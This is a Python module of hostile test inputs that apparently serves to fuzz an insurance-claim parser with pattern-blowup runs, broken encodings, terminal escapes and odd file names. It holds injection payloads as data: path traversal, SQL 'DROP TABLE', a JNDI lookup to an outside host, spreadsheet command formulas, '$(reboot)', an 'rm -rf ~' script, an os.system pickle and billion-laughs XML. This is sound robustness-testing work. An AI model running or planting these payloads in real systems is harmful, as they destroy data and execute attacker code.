# ruff: noqa: E501 (one file a line reads better)
"""Hostile text: what makes patterns try for ever, bytes of no character set, marks that act on terminals, odd names."""

from __future__ import annotations

import random

from hostile.case import MB, HostileFile, flipped, noise

_NOTICE = (
    b"AUTOMOBILE LOSS NOTICE\n\nPolicy Number: AP-118822\nDate of Loss: 2026-03-02\nName of Insured: Wilma Tarnbeck\n"
    b"Amount of Estimate: $1,250.00\n\n"
)
SIZE = 100_000  # characters of a run that makes patterns try


def notice(more: bytes) -> bytes:
    """A notice of loss, so that the file is taken for a claim, and this after it."""
    return _NOTICE + more


def run(piece: bytes, size: int = SIZE) -> bytes:
    """One piece over and over."""
    return notice(piece * (size // len(piece)) + b"!\n")


def mixed(letters: bytes, seed: int, size: int = SIZE) -> bytes:
    """These letters in an order that looks random."""
    chance = random.Random(seed)
    return notice(bytes(chance.choice(letters) for _ in range(size)) + b"\n")


# What stands in a row in each: patterns that allow it twice over try every way to part it.
RUNS: dict[str, bytes] = {
    "spaces": b" ",
    "tabs": b"\t",
    "line ends": b"\n",
    "spaces and line ends": b" \n",
    "digits": b"1",
    "digits and spaces": b"1 ",
    "digits and dots": b"1.",
    "digits and commas": b"1,",
    "digits and dashes": b"1-",
    "digits and slashes": b"1/",
    "digits and colons": b"1:",
    "dollars": b"$",
    "dollars and spaces": b"$ ",
    "amounts": b"$1,234.56 ",
    "brackets": b"(",
    "dots": b".",
    "dots and spaces": b". ",
    "dashes": b"-",
    "underscores": b"_",
    "quotes": b"'",
    "letters": b"a",
    "capitals": b"A",
    "capitals and spaces": b"A ",
    "words": b"ab ",
    "names": b"Mr. John A. Smith ",
    "names and commas": b"Smith, John, ",
    "at signs": b"a@",
    "addresses of mail": b"a.b.c.",
    "labels": b"Date of Loss: ",
    "labels of everything": b"Policy Number: Date of Loss: Name of Insured: Amount: Phone: VIN: Address: ",
    "colons": b":",
    "words and colons": b"Insured: ",
    "dates": b"2026-03-02 ",
    "dates written out": b"March 2, 2026, ",
    "months": b"March ",
    "times": b"10:30 am ",
    "numbers in words": b"one hundred and twenty thousand ",
    "telephones": b"(555) 010-0123 ",
    "vehicles": b"2019 Honda Civic ",
    "VINs": b"1HGCM82633A004352 ",
    "places": b"123 Main St, Springfield, IL 62701 ",
    "plates": b"ABC-1234 ",
    "ticks": b"[x] Yes [ ] No ",
    "columns": b"Description    Qty    Price    Amount\n",
    "rows": b"1    Bumper    2    $10.00    $20.00\n",
    "codes": b"J02.0 99213 ",
    "said": b"he said \"I was driving when ",
    "the insured": b"the insured vehicle and the other vehicle ",
}  # fmt: skip


def _f(name: str, make: object, small: bool = False, file_name: str = "") -> HostileFile:
    return HostileFile("text", name, make, small, file_name)  # type: ignore[arg-type]


def _named(name: str, file_name: str, number: int) -> HostileFile:
    return HostileFile("name", name, lambda: _NOTICE + b"Copy %d\n" % number, True, file_name)


TEXTS: tuple[HostileFile, ...] = (
    *(_f(f"a run of {name}", lambda piece=piece: run(piece), name in ("digits", "spaces")) for name, piece in RUNS.items()),
    _f("digits, dots and spaces", lambda: mixed(b"0123456789., ", 1)),
    _f("digits, dashes and slashes", lambda: mixed(b"0123456789-/: ", 2)),
    _f("capitals and digits", lambda: mixed(b"ABCDEFGH0123456789 ", 3)),
    _f("letters, spaces and line ends", lambda: mixed(b"abcdefgh     \n", 4)),
    _f("marks", lambda: mixed(b"$()[]{}*+?|^\\.", 5)),
    _f("one line of 40 MB", lambda: b"x" * (40 * MB)),
    _f("one line of 1.9 million letters", lambda: run(b"Date of loss ", 1_900_000)),
    _f("a million lines", lambda: notice(b"x\n" * 900_000)),
    _f("a million short lines with labels", lambda: notice(b"Amount: $1\n" * 150_000)),
    _f("only NULs", lambda: b"\0" * MB, True),
    _f("NULs between letters", lambda: notice(b"".join(b"%c\0" % letter for letter in _NOTICE) * 20)),
    _f("only line ends", lambda: b"\n" * MB),
    _f("only form feeds", lambda: notice(b"\f" * 300_000)),
    _f("noise", lambda: noise(MB), True),
    _f("every byte there is", lambda: bytes(range(256)) * 400),
    _f("UTF-8 cut in the middle of letters", lambda: notice("é漢🙂".encode() * 30_000)[:-2]),
    _f("UTF-8 overlong", lambda: notice(b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf" * 5000)),
    _f("UTF-16 cut short", lambda: notice(b"").decode().encode("utf-16")[:-1]),
    _f("UTF-16 of half letters", lambda: b"\xff\xfe" + b"\x00\xd8" * 50_000),
    _f("UTF-32", lambda: notice(b"").decode().encode("utf-32")),
    _f("UTF-7", lambda: b"+ADw-script+AD4-" * 5000),
    _f("EBCDIC", lambda: notice(b"").decode().encode("cp500")),
    _f("control marks of a terminal", lambda: notice(b"\x1b[2J\x1b]0;rm -rf\x07\x1b[31m" * 5000), True),
    _f("text that runs backwards", lambda: notice("\u202e\u2066\u2069\u200f".encode() * 30_000), True),
    _f("letters under 1,000 marks", lambda: notice(("Z" + "\u0310" * 1000).encode() * 100)),
    _f("letters of no width", lambda: notice("D\u200ba\u200bt\u200be\ufeff".encode() * 20_000)),
    _f("one letter that becomes 18", lambda: notice("\ufdfa".encode() * 100_000)),
    _f("digits of other scripts", lambda: notice("Amount: ١٢٣٤٥٦ ²³ ①②③ ½ 𝟙𝟚𝟛 ".encode() * 5000), True),
    _f("letters that look alike", lambda: notice("Роlісу Νumber: АР-1 ".encode() * 5000)),
    _f("spaces of every kind", lambda: notice("\u00a0\u2000\u2003\u3000\u205f\u1680".encode() * 20_000)),
    _f("a number of a million digits", lambda: notice(b"Amount of Estimate: $" + b"9" * 1_000_000)),
    _f("a date of a million digits", lambda: notice(b"Date of Loss: " + b"9" * 500_000 + b"-01-01")),
    _f("dates beyond dates", lambda: notice(b"Date of Loss: 9999-99-99\nDate: 00/00/0000\nDate: 31 February 99999\n" * 300)),
    _f("amounts beyond amounts", lambda: notice(b"Amount of Estimate: $999,999,999,999,999,999,999,999,999.99\nTotal: -$1e999\n" * 300)),
    _f("1,000 notices in one", lambda: _NOTICE * 1000),
    _f("a table of 100,000 rows", lambda: notice(b"Description    Qty    Price    Amount\n" + b"Part           2      $10.00   $20.00\n" * 50_000)),
    _f("a table of 5,000 columns", lambda: notice((b"Amount    " * 5000 + b"\n" + b"$1.00     " * 5000 + b"\n") * 10)),
    _f("formulas", lambda: notice(b"=cmd|'/c calc'!A1,@SUM(1),+1,-1\n" * 100)),
    _f("paths, queries and templates", lambda: notice(b"../../etc/passwd '; DROP TABLE claims;-- {{7*7}} ${jndi:ldap://192.0.2.1/x} %s%n <script>\n" * 100)),
    _f("shell marks", lambda: notice(b"$(reboot) `reboot` ; reboot | reboot & reboot\n" * 100)),
    _f("a program of Linux", lambda: b"\x7fELF\2\1\1" + noise(50_000)),
    _f("a program of Windows", lambda: b"MZ\x90\0" + noise(50_000)),
    _f("a script", lambda: b"#!/bin/sh\nrm -rf ~\n"),
    _f("a database", lambda: b"SQLite format 3\0" + noise(50_000)),
    _f("a pickle", lambda: b"\x80\4cos\nsystem\n(S'id'\ntR."),
    _f("XML with a billion laughs", lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)) + b"]><x>&j;</x>"),
    _f("YAML with a billion laughs", lambda: b"a: &a [x,x,x]\n" + b"".join(b"%c: &%c [*%c,*%c]\n" % (98 + n, 98 + n, 97 + n, 97 + n) for n in range(20))),
    _f("a notice with bytes changed", lambda: flipped(notice(b"") * 5, 40)),
    _named("a line end in its name", "a\nb.txt", 1),
    _named("marks of a shell in its name", "$(reboot);`id`|&'\".txt", 2),
    _named("a name that runs backwards", "\u202efdp.exe", 3),
    _named("a name of 255 bytes", "n" * 251 + ".txt", 4),
    _named("a name of no character set", "\udcff\udcfe.txt", 5),
    _named("a name of marks of a terminal", "\x1b[2J\x07.txt", 6),
    _named("a name like an option", "--help", 7),
    _named("a name of a space", " ", 8),
    _named("a name in folders", "a/b/c/d/e/f/x.txt", 9),
    _named("a name that is no PDF", "claim.pdf", 10),
    _named("a name with a percent", "%s%n%x{0}{{x}}.txt", 11),
)  # fmt: skip
